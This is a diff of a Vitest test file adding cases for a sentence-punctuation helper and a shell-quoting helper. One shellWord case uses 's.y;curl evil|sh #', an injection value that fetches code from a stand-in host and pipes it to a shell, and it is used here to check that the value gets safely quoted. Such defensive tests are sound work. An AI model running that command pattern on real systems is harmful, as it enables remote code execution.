@@ -1,5 +1,32 @@
 import { describe, expect, it } from 'vitest';
-import { closest, editDistance } from './closest.ts';
+import { asSentence, closest, editDistance, shellWord } from './text.ts';
+
+describe('asSentence', () => {
+  it.each([
+    ['gateway starting', 'gateway starting.'],
+    ['It was lost.', 'It was lost.'],
+    [' Really? ', 'Really?'],
+    ['wait…', 'wait…'],
+    ['wait...', 'wait...'],
+    ["it's (see below.)", "it's (see below.)"],
+    ["mkdir '/x'", "mkdir '/x'."],
+  ])('%j ends as a sentence does: %j', (said, sentence) => {
+    expect(asSentence(said)).toBe(sentence);
+  });
+});
+
+describe('shellWord', () => {
+  it.each([
+    ['a=b/c.d', 'a=b/c.d'],
+    ['a b', "'a b'"],
+    ["it's", String.raw`'it'\''s'`],
+    ['$HOME', "'$HOME'"],
+    ['', "''"],
+    ['s.y;curl evil|sh #', "'s.y;curl evil|sh #'"],
+    ['~/x', "'~/x'"],
+    ['a\nb', "'a\nb'"],
+  ])('%s', (word, quoted) => expect(shellWord(word)).toBe(quoted));
+});
 
 describe('editDistance', () => {
   it.each([
